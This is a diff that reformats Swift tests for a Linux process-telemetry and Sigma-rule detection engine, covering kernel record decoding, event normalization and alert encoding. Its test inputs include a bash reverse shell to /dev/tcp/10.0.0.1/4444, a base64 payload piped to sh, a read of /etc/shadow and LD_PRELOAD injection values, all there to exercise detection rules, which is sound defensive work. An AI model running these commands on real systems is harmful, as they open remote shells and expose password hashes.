@@ -13,15 +13,19 @@ enum RecordBuilder {
     static let euid: UInt32 = 61_002, gid: UInt32 = 61_003, egid: UInt32 = 61_004, loginuid: UInt32 = 61_005
 
     static func ids(pid: UInt32, ppid: UInt32, uid: UInt32, start: UInt64, parentStart: UInt64) -> [UInt8] {
-        KernelRecordLayout.ids(pid: pid, tid: pid + tidOffset, ppid: ppid, uid: uid, euid: euid, gid: gid, egid: egid,
-                               start: start, parentStart: parentStart, loginuid: loginuid)
+        KernelRecordLayout.ids(
+            pid: pid, tid: pid + tidOffset, ppid: ppid, uid: uid, euid: euid, gid: gid, egid: egid,
+            start: start, parentStart: parentStart, loginuid: loginuid)
     }
 
-    static func exec(pid: UInt32 = 100, ppid: UInt32 = 50, uid: UInt32 = 0, args: [String], path: String, cwd: String,
-                     start: UInt64 = 5_000_000_000, parentStart: UInt64 = 1_000_000_000, flags: UInt32 = 0) -> [UInt8] {
-        KernelRecordLayout.exec(pid: pid, tid: pid + tidOffset, ppid: ppid, uid: uid, euid: euid, gid: gid, egid: egid,
-                                loginuid: loginuid, start: start, parentStart: parentStart, args: args, path: path, cwd: cwd,
-                                flags: flags, bootNanos: 9_000_000_123)
+    static func exec(
+        pid: UInt32 = 100, ppid: UInt32 = 50, uid: UInt32 = 0, args: [String], path: String, cwd: String,
+        start: UInt64 = 5_000_000_000, parentStart: UInt64 = 1_000_000_000, flags: UInt32 = 0
+    ) -> [UInt8] {
+        KernelRecordLayout.exec(
+            pid: pid, tid: pid + tidOffset, ppid: ppid, uid: uid, euid: euid, gid: gid, egid: egid,
+            loginuid: loginuid, start: start, parentStart: parentStart, args: args, path: path, cwd: cwd,
+            flags: flags, bootNanos: 9_000_000_123)
     }
 }
 
@@ -38,8 +42,10 @@ extension KernelRecord {
 }
 
 /// Each identity field, separately.
-func expectIDs(_ ids: TaskIDs, pid: Int32, tid: Int32, ppid: Int32, uid: UInt32, euid: UInt32, gid: UInt32, egid: UInt32,
-               loginuid: UInt32, start: UInt64, parentStart: UInt64, sourceLocation: SourceLocation = #_sourceLocation) {
+func expectIDs(
+    _ ids: TaskIDs, pid: Int32, tid: Int32, ppid: Int32, uid: UInt32, euid: UInt32, gid: UInt32, egid: UInt32,
+    loginuid: UInt32, start: UInt64, parentStart: UInt64, sourceLocation: SourceLocation = #_sourceLocation
+) {
     #expect(ids.pid == pid, "pid", sourceLocation: sourceLocation)
     #expect(ids.tid == tid, "tid", sourceLocation: sourceLocation)
     #expect(ids.ppid == ppid, "ppid", sourceLocation: sourceLocation)
@@ -55,41 +61,54 @@ func expectIDs(_ ids: TaskIDs, pid: Int32, tid: Int32, ppid: Int32, uid: UInt32,
 @Suite("Kernel records and normalization")
 struct KernelRecordTests {
     @Test func decodesExec() throws {
-        let bytes = KernelRecordLayout.exec(pid: 100, tid: 101, ppid: 50, uid: 61_001, euid: 61_002, gid: 61_003, egid: 61_004,
-                                            loginuid: 61_005, start: 5_000_000_000, parentStart: 1_000_000_000,
-                                            args: ["/usr/bin/curl", "-s", "http://x"], path: "/usr/bin/curl", cwd: "/home/a b",
-                                            flags: ExecRecord.cwdTruncated, cgroup: 777, comm: "curl-comm", bootNanos: 9_000_000_123)
+        let bytes = KernelRecordLayout.exec(
+            pid: 100, tid: 101, ppid: 50, uid: 61_001, euid: 61_002, gid: 61_003, egid: 61_004,
+            loginuid: 61_005, start: 5_000_000_000, parentStart: 1_000_000_000,
+            args: ["/usr/bin/curl", "-s", "http://x"], path: "/usr/bin/curl", cwd: "/home/a b",
+            flags: ExecRecord.cwdTruncated, cgroup: 777, comm: "curl-comm", bootNanos: 9_000_000_123)
         let r = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
         #expect(r.args == ["/usr/bin/curl", "-s", "http://x"])
         #expect(r.commandLine == "/usr/bin/curl -s http://x")
         #expect(r.path == "/usr/bin/curl")
         #expect(r.cwd == "/home/a b")
-        expectIDs(r.ids, pid: 100, tid: 101, ppid: 50, uid: 61_001, euid: 61_002, gid: 61_003, egid: 61_004, loginuid: 61_005,
-                  start: 5_000_000_000, parentStart: 1_000_000_000)
+        expectIDs(
+            r.ids, pid: 100, tid: 101, ppid: 50, uid: 61_001, euid: 61_002, gid: 61_003, egid: 61_004, loginuid: 61_005,
+            start: 5_000_000_000, parentStart: 1_000_000_000)
         #expect(r.bootNanos == 9_000_000_123)
         #expect(r.cgroupID == 777)
         #expect(r.comm == "curl-comm")
         #expect(r.argc == 3)
         #expect(r.flags == ExecRecord.cwdTruncated)
         // The identity as fstat reports it: st_dev of 8:1 is 0x801.
-        #expect(r.executable == FileIdentity(device: 0x801, inode: 4242, size: 35_000,
-                                             ctimeSeconds: 1_700_000_000, ctimeNanoseconds: 123_456_789))
+        #expect(
+            r.executable
+                == FileIdentity(
+                    device: 0x801, inode: 4242, size: 35_000,
+                    ctimeSeconds: 1_700_000_000, ctimeNanoseconds: 123_456_789))
     }
 
     @Test func decodesExitAndFork() throws {
-        let exit = try #require(try KernelRecordDecoder.decode(KernelRecordLayout.exit(
-            pid: 300, tid: 302, ppid: 30, uid: 61_011, euid: 61_012, gid: 61_013, egid: 61_014, loginuid: 61_015,
-            start: 7_000_000_000, parentStart: 3_000_000_000, code: 0x0900, comm: "exit-comm", bootNanos: 8_000_000_001)).asExit,
+        let exit = try #require(
+            try KernelRecordDecoder.decode(
+                KernelRecordLayout.exit(
+                    pid: 300, tid: 302, ppid: 30, uid: 61_011, euid: 61_012, gid: 61_013, egid: 61_014, loginuid: 61_015,
+                    start: 7_000_000_000, parentStart: 3_000_000_000, code: 0x0900, comm: "exit-comm", bootNanos: 8_000_000_001)
+            ).asExit,
             "not an exit record")
-        expectIDs(exit.ids, pid: 300, tid: 302, ppid: 30, uid: 61_011, euid: 61_012, gid: 61_013, egid: 61_014, loginuid: 61_015,
-                  start: 7_000_000_000, parentStart: 3_000_000_000)
+        expectIDs(
+            exit.ids, pid: 300, tid: 302, ppid: 30, uid: 61_011, euid: 61_012, gid: 61_013, egid: 61_014, loginuid: 61_015,
+            start: 7_000_000_000, parentStart: 3_000_000_000)
         #expect(exit.exitCode == 0x0900 && exit.comm == "exit-comm" && exit.bootNanos == 8_000_000_001)
-        let fork = try #require(try KernelRecordDecoder.decode(KernelRecordLayout.fork(
-            pid: 400, tid: 404, ppid: 40, uid: 61_021, euid: 61_022, gid: 61_023, egid: 61_024, loginuid: 61_025,
-            start: 6_000_000_000, parentStart: 2_000_000_000, comm: "fork-comm", bootNanos: 8_000_000_002)).asFork,
+        let fork = try #require(
+            try KernelRecordDecoder.decode(
+                KernelRecordLayout.fork(
+                    pid: 400, tid: 404, ppid: 40, uid: 61_021, euid: 61_022, gid: 61_023, egid: 61_024, loginuid: 61_025,
+                    start: 6_000_000_000, parentStart: 2_000_000_000, comm: "fork-comm", bootNanos: 8_000_000_002)
+            ).asFork,
             "not a fork record")
-        expectIDs(fork.ids, pid: 400, tid: 404, ppid: 40, uid: 61_021, euid: 61_022, gid: 61_023, egid: 61_024, loginuid: 61_025,
-                  start: 6_000_000_000, parentStart: 2_000_000_000)
+        expectIDs(
+            fork.ids, pid: 400, tid: 404, ppid: 40, uid: 61_021, euid: 61_022, gid: 61_023, egid: 61_024, loginuid: 61_025,
+            start: 6_000_000_000, parentStart: 2_000_000_000)
         #expect(fork.comm == "fork-comm" && fork.bootNanos == 8_000_000_002)
         // Start times in clock ticks, as /proc states them (100 Hz).
         #expect(fork.ids.startTicks == 600 && fork.ids.parentStartTicks == 200)
@@ -101,8 +120,8 @@ struct KernelRecordTests {
         #expect(r.cwd == "/" && r.path == "/x" && r.args == ["a", "b"] && r.flags == 0)
         // A truncated argv has no final NUL: the partial argument is kept.
         bytes = RecordBuilder.exec(args: ["a", "bcd"], path: "/x", cwd: "/", flags: ExecRecord.argsTruncated)
-        bytes.remove(at: 168 + 5)          // drop the last NUL of argv
-        bytes[80] -= 1                      // args_len
+        bytes.remove(at: 168 + 5)  // drop the last NUL of argv
+        bytes[80] -= 1  // args_len
         let size = UInt32(bytes.count)
         withUnsafeBytes(of: size.littleEndian) { for i in 0..<4 { bytes[4 + i] = $0[i] } }
         let t = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
@@ -113,9 +132,9 @@ struct KernelRecordTests {
     @Test func rejectsMalformedRecords() {
         let good = RecordBuilder.exec(args: ["a"], path: "/a", cwd: "/")
         #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(Array(good.prefix(10))) }
-        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(Array(good.dropLast())) } // size mismatch
+        #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(Array(good.dropLast())) }  // size mismatch
         var lengths = good
-        lengths[80] = 200 // args_len beyond the record
+        lengths[80] = 200  // args_len beyond the record
         #expect(throws: RecordError.self) { try KernelRecordDecoder.decode(lengths) }
         var kind = good
         kind[0] = 99
@@ -135,7 +154,7 @@ struct KernelRecordTests {
             (ExecRecord.argsTruncated, ["CommandLine"]), (ExecRecord.argsFault, ["CommandLine"]),
             (ExecRecord.pathTruncated, ["Image"]), (ExecRecord.cwdTruncated, ["CurrentDirectory"]),
             (ExecRecord.argsTruncated | ExecRecord.pathTruncated | ExecRecord.cwdTruncated, ["CommandLine", "Image", "CurrentDirectory"]),
-            (ExecRecord.environmentTruncated | ExecRecord.argsTruncated, ["CommandLine", "Environment"]),
+            (ExecRecord.environmentTruncated | ExecRecord.argsTruncated, ["CommandLine", "Environment"])
         ]
         for (flags, fields) in cases {
             let r = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(args: ["a"], path: "/x", cwd: "/", flags: flags)).asExec)
@@ -145,9 +164,10 @@ struct KernelRecordTests {
 
     /// A #! script: the interpreter is the Image, the script has its own path and identity.
     @Test func decodesScriptAndEnvironment() throws {
-        let bytes = KernelRecordLayout.exec(pid: 100, tid: 101, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000,
-                                            args: ["/bin/sh", "./run.sh", "x"], path: "/usr/bin/dash", cwd: "/srv",
-                                            script: "/srv/app/run.sh", environment: ["PATH=/bin", "LD_PRELOAD=/tmp/x.so"])
+        let bytes = KernelRecordLayout.exec(
+            pid: 100, tid: 101, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000,
+            args: ["/bin/sh", "./run.sh", "x"], path: "/usr/bin/dash", cwd: "/srv",
+            script: "/srv/app/run.sh", environment: ["PATH=/bin", "LD_PRELOAD=/tmp/x.so"])
         let r = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
         #expect(r.path == "/usr/bin/dash" && r.cwd == "/srv" && r.args == ["/bin/sh", "./run.sh", "x"])
         #expect(r.scriptPath == "/srv/app/run.sh")
@@ -159,24 +179,33 @@ struct KernelRecordTests {
         let plain = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(args: ["a"], path: "/x", cwd: "/")).asExec)
         #expect(plain.scriptPath == nil && plain.script == nil && plain.environment.isEmpty)
         // The kernel did not find the script's file: the name execve got, against the cwd; no identity.
-        let named = try #require(try KernelRecordDecoder.decode(KernelRecordLayout.exec(
-            pid: 100, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000, args: ["sh"], path: "/usr/bin/dash", cwd: "/srv",
-            script: "sub/run.sh", scriptNameOnly: true)).asExec)
+        let named = try #require(
+            try KernelRecordDecoder.decode(
+                KernelRecordLayout.exec(
+                    pid: 100, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000, args: ["sh"], path: "/usr/bin/dash", cwd: "/srv",
+                    script: "sub/run.sh", scriptNameOnly: true)
+            ).asExec)
         #expect(named.scriptPath == "/srv/sub/run.sh" && named.script == nil)
-        let absolute = try #require(try KernelRecordDecoder.decode(KernelRecordLayout.exec(
-            pid: 100, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000, args: ["sh"], path: "/usr/bin/dash", cwd: "/",
-            script: "/dev/fd/3", scriptNameOnly: true)).asExec)
+        let absolute = try #require(
+            try KernelRecordDecoder.decode(
+                KernelRecordLayout.exec(
+                    pid: 100, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000, args: ["sh"], path: "/usr/bin/dash", cwd: "/",
+                    script: "/dev/fd/3", scriptNameOnly: true)
+            ).asExec)
         #expect(absolute.scriptPath == "/dev/fd/3" && absolute.script == nil)
     }
 
     @Test func rejectsMalformedScriptAndEnvironmentLengths() throws {
-        let good = KernelRecordLayout.exec(pid: 100, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000, args: ["sh"],
-                                           path: "/usr/bin/dash", cwd: "/", script: "/s.sh", environment: ["A=1"])
+        let good = KernelRecordLayout.exec(
+            pid: 100, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000, args: ["sh"],
+            path: "/usr/bin/dash", cwd: "/", script: "/s.sh", environment: ["A=1"])
         _ = try KernelRecordDecoder.decode(good)
         for (offset, delta) in [(86, 1), (86, -1), (164, 1), (164, -1)] {
             var b = good
             let v = Int(b.readLE(UInt16.self, at: offset)) + delta
-            withUnsafeBytes(of: UInt16(v).littleEndian) { b[offset] = $0[0]; b[offset + 1] = $0[1] }
+            withUnsafeBytes(of: UInt16(v).littleEndian) {
+                b[offset] = $0[0]; b[offset + 1] = $0[1]
+            }
             #expect(throws: RecordError.self, "length at \(offset) off by \(delta)") { try KernelRecordDecoder.decode(b) }
         }
         // Script bytes without the script flag: not a record the kernel writes.
@@ -186,8 +215,9 @@ struct KernelRecordTests {
         // An environment that fills the record to the last byte without a NUL decodes; so does
         // one of NULs only.
         for env in [Array("LD_PRELOAD=/tm".utf8), [UInt8](repeating: 0, count: 9)] {
-            let b = KernelRecordLayout.exec(pid: 1, ppid: 0, start: 1, parentStart: 0, args: ["a"], path: "/a", cwd: "/",
-                                            flags: ExecRecord.environmentTruncated, environmentBytes: env)
+            let b = KernelRecordLayout.exec(
+                pid: 1, ppid: 0, start: 1, parentStart: 0, args: ["a"], path: "/a", cwd: "/",
+                flags: ExecRecord.environmentTruncated, environmentBytes: env)
             let r = try #require(try KernelRecordDecoder.decode(b).asExec)
             #expect(r.environment == env)
         }
@@ -198,12 +228,14 @@ struct KernelRecordTests {
     @Test func environmentIsFilteredToTheConfiguredNames() throws {
         var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
         func event(_ env: [UInt8], flags: UInt32 = 0) throws -> Event {
-            let b = KernelRecordLayout.exec(pid: 1, ppid: 0, start: 1, parentStart: 0, args: ["a"], path: "/a", cwd: "/",
-                                            flags: flags, environmentBytes: env)
+            let b = KernelRecordLayout.exec(
+                pid: 1, ppid: 0, start: 1, parentStart: 0, args: ["a"], path: "/a", cwd: "/",
+                flags: flags, environmentBytes: env)
             return n.exec(try #require(try KernelRecordDecoder.decode(b).asExec)).0
         }
-        let env = Array(("SECRET=s3cret\0LD_PRELOADX=no\0ld_preload=no\0LD_PRELOAD\0\0=LD_PRELOAD=no\0"
-            + "LD_PRELOAD=/tmp/a.so\0LD_LIBRARY_PATH=/x=y\0LD_PRELOAD=/tmp/b.so\0LD_PRELOAD=").utf8)
+        let env = Array(
+            ("SECRET=s3cret\0LD_PRELOADX=no\0ld_preload=no\0LD_PRELOAD\0\0=LD_PRELOAD=no\0"
+                + "LD_PRELOAD=/tmp/a.so\0LD_LIBRARY_PATH=/x=y\0LD_PRELOAD=/tmp/b.so\0LD_PRELOAD=").utf8)
         let e = try event(env)
         #expect(e["Environment"] == .array(["LD_PRELOAD=/tmp/a.so", "LD_LIBRARY_PATH=/x=y", "LD_PRELOAD=/tmp/b.so", "LD_PRELOAD="]))
         #expect(e["Env.LD_PRELOAD"] == .array(["/tmp/a.so", "/tmp/b.so", ""]))
@@ -228,9 +260,12 @@ struct KernelRecordTests {
 
     @Test func scriptPathIsAnEventField() throws {
         var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
-        let r = try #require(try KernelRecordDecoder.decode(KernelRecordLayout.exec(
-            pid: 100, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000, args: ["/bin/sh", "/srv/run.sh"],
-            path: "/usr/bin/dash", cwd: "/", script: "/srv/run.sh")).asExec)
+        let r = try #require(
+            try KernelRecordDecoder.decode(
+                KernelRecordLayout.exec(
+                    pid: 100, ppid: 50, start: 5_000_000_000, parentStart: 1_000_000_000, args: ["/bin/sh", "/srv/run.sh"],
+                    path: "/usr/bin/dash", cwd: "/", script: "/srv/run.sh")
+            ).asExec)
         let e = n.exec(r).0
         #expect(e["Image"] == .string("/usr/bin/dash"))
         #expect(e["ScriptPath"] == .string("/srv/run.sh"))
@@ -241,10 +276,16 @@ struct KernelRecordTests {
     @Test func normalizerLinksParentAndBuildsSysmonFields() throws {
         var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
         let parentStart: UInt64 = 1_000_000_000
-        let p = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash", "-i"], path: "/usr/bin/bash", cwd: "/root", start: parentStart, parentStart: 10)).asExec, "not an exec record")
+        let p = try #require(
+            try KernelRecordDecoder.decode(
+                RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash", "-i"], path: "/usr/bin/bash", cwd: "/root", start: parentStart, parentStart: 10)
+            ).asExec, "not an exec record")
         _ = n.exec(p)
         // The child runs as uid 0 with every other id different: User is the real uid's name.
-        let c = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 100, ppid: 50, args: ["whoami"], path: "/usr/bin/whoami", cwd: "/tmp", parentStart: parentStart)).asExec, "not an exec record")
+        let c = try #require(
+            try KernelRecordDecoder.decode(
+                RecordBuilder.exec(pid: 100, ppid: 50, args: ["whoami"], path: "/usr/bin/whoami", cwd: "/tmp", parentStart: parentStart)
+            ).asExec, "not an exec record")
         let (event, proc, parentEntry) = n.exec(c)
         let parent = try #require(parentEntry, "the parent was not found in the cache")
         #expect(event.logsource == Normalizer.processCreation)
@@ -260,7 +301,7 @@ struct KernelRecordTests {
         #expect(event["ParentUser"] == .string("root"))
         #expect(parent.pid == 50 && parent.image == "/usr/bin/bash")
         #expect(proc.pid == 100 && proc.ppid == 50 && proc.uid == 0 && proc.loginuid == RecordBuilder.loginuid)
-        #expect(proc.guid == "{01234567-0000-0000-0000-01f400000064}")   // start 5 s = 500 ticks, pid 100
+        #expect(proc.guid == "{01234567-0000-0000-0000-01f400000064}")  // start 5 s = 500 ticks, pid 100
         #expect(event["ProcessGuid"] == .string(proc.guid))
         #expect(parent.guid == "{01234567-0000-0000-0000-006400000032}")  // start 1 s = 100 ticks, pid 50
         #expect(event["ParentProcessGuid"] == .string(parent.guid))
@@ -269,8 +310,9 @@ struct KernelRecordTests {
     /// The real uid names the user, not the effective one (a set-uid program run by alice is alice's).
     @Test func userIsTheRealUID() throws {
         var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
-        let bytes = KernelRecordLayout.exec(pid: 70, tid: 71, ppid: 1, uid: 61_999, euid: 0, gid: 61_998, egid: 0,
-                                            start: 2_000_000_000, parentStart: 10, args: ["passwd"], path: "/usr/bin/passwd", cwd: "/")
+        let bytes = KernelRecordLayout.exec(
+            pid: 70, tid: 71, ppid: 1, uid: 61_999, euid: 0, gid: 61_998, egid: 0,
+            start: 2_000_000_000, parentStart: 10, args: ["passwd"], path: "/usr/bin/passwd", cwd: "/")
         let r = try #require(try KernelRecordDecoder.decode(bytes).asExec, "not an exec record")
         let (event, proc, _) = n.exec(r)
         #expect(event["User"] == .string("61999"))
@@ -299,12 +341,19 @@ struct KernelRecordTests {
     /// its own ProcessGuid, and names the parent's as ParentProcessGuid; argv is split on demand.
     @Test func forkInheritsTheParentAndSplitsArgvOnDemand() throws {
         var n = Normalizer(machineID: "0123456789abcdef0123456789abcdef")
-        let p = try #require(try KernelRecordDecoder.decode(RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash", "-c", "a b"], path: "/usr/bin/bash", cwd: "/root", start: 1_000_000_000, parentStart: 10)).asExec, "not an exec record")
+        let p = try #require(
+            try KernelRecordDecoder.decode(
+                RecordBuilder.exec(pid: 50, ppid: 1, args: ["bash", "-c", "a b"], path: "/usr/bin/bash", cwd: "/root", start: 1_000_000_000, parentStart: 10)
+            ).asExec, "not an exec record")
         let (_, parent, _) = n.exec(p)
         #expect(parent.args == ["bash", "-c", "a b"] && parent.commandLine == "bash -c a b")
-        let f = try #require(try KernelRecordDecoder.decode(KernelRecordLayout.fork(pid: 60, tid: 61, ppid: 50, uid: 61_999, euid: 61_002,
-                                                                                    start: 2_000_000_000, parentStart: 1_000_000_000)).asFork,
-                             "not a fork record")
+        let f = try #require(
+            try KernelRecordDecoder.decode(
+                KernelRecordLayout.fork(
+                    pid: 60, tid: 61, ppid: 50, uid: 61_999, euid: 61_002,
+                    start: 2_000_000_000, parentStart: 1_000_000_000)
+            ).asFork,
+            "not a fork record")
         n.fork(f)
         let child = try #require(n.cache.lookup(pid: 60))
         #expect(child.image == "/usr/bin/bash" && child.args == ["bash", "-c", "a b"] && child.cwd == "/root")
@@ -320,7 +369,7 @@ struct KernelRecordTests {
         p.appendLE(UInt32(321))
         func section(_ tag: UInt8, _ s: [UInt8]) { p.append(tag); p.appendLE(UInt32(s.count)); p += s }
         section(1, Array("321 (my (odd) name) S 1 321 321 0 -1 4194560 100 0 0 0 1 2 0 0 20 0 1 0 4242 1000 10".utf8))
-        section(2, Array("Name:\tx\nUid:\t1000\t1001\t1002\t1003\n".utf8))   // real, effective, saved, fs: distinct
+        section(2, Array("Name:\tx\nUid:\t1000\t1001\t1002\t1003\n".utf8))  // real, effective, saved, fs: distinct
         section(3, Array("python3\0-m\0http.server\0".utf8))
         section(4, Array("/usr/bin/python3.11".utf8))
         section(5, Array("/srv".utf8))
@@ -331,13 +380,16 @@ struct KernelRecordTests {
     }
 
     @Test func alertIsValidECS() throws {
-        let event = Event(logsource: Normalizer.processCreation, timestamp: 1_800_000_000.5, fields: [
-            ("Image", "/usr/bin/whoami"), ("CommandLine", "whoami \"quoted\"\n"), ("ProcessId", 7), ("User", "root"),
-            ("ParentProcessId", 1), ("ParentImage", "/sbin/init"), ("CurrentDirectory", "/"),
-            ("Environment", .array(["LD_PRELOAD=/tmp/x.so"])),
-        ])
-        let rule = SigmaRuleInfo(id: "r1", title: "T", level: .high, tags: ["attack.t1033", "attack.discovery"],
-                                 logsource: Normalizer.processCreation, path: "x.yml")
+        let event = Event(
+            logsource: Normalizer.processCreation, timestamp: 1_800_000_000.5,
+            fields: [
+                ("Image", "/usr/bin/whoami"), ("CommandLine", "whoami \"quoted\"\n"), ("ProcessId", 7), ("User", "root"),
+                ("ParentProcessId", 1), ("ParentImage", "/sbin/init"), ("CurrentDirectory", "/"),
+                ("Environment", .array(["LD_PRELOAD=/tmp/x.so"]))
+            ])
+        let rule = SigmaRuleInfo(
+            id: "r1", title: "T", level: .high, tags: ["attack.t1033", "attack.discovery"],
+            logsource: Normalizer.processCreation, path: "x.yml")
         let line = AlertEncoder.sigma(event: event, rule: rule, sequence: 9, context: AlertContext(hostName: "h", hostID: "id"))
         #expect(line.last == 0x0A)
         let obj = try #require(try JSONSerialization.jsonObject(with: Data(line)) as? [String: Any])
@@ -373,10 +425,13 @@ struct TeamRuleTests {
         let titles = { (e: Event) in Set(engine.evaluate(e).map(\.rule.title)) }
         #expect(titles(event("/usr/bin/whoami", "whoami")) == ["Identity Discovery As Root"])
         #expect(titles(event("/usr/bin/whoami", "whoami", user: "alice")).isEmpty)
-        #expect(titles(event("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")) == ["Interactive Reverse Shell Through /dev/tcp Or A Network Tool"])
+        #expect(
+            titles(event("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'")) == [
+                "Interactive Reverse Shell Through /dev/tcp Or A Network Tool"
+            ])
         #expect(titles(event("/usr/bin/sh", "sh -c echo aGk= | base64 -d | sh")) == ["Base64-Decoded Script Piped To A Shell"])
         #expect(titles(event("/usr/bin/sh", "sh -c base64 -d file > out")).isEmpty)
-        #expect(titles(event("/usr/bin/CAT", "cat /etc/SHADOW")) == ["Password Hash File Read By A Text Tool"]) // case-insensitive
+        #expect(titles(event("/usr/bin/CAT", "cat /etc/SHADOW")) == ["Password Hash File Read By A Text Tool"])  // case-insensitive
         let compat = Event(logsource: TelemetryNormalizer.compatSyscall, fields: [("Syscall", .string("int 0x80")), ("SyscallName", .string("creat"))])
         #expect(Set(engine.evaluate(compat).map(\.rule.title)) == ["32-Bit System Calls Unseen By File And Network Telemetry"])
     }
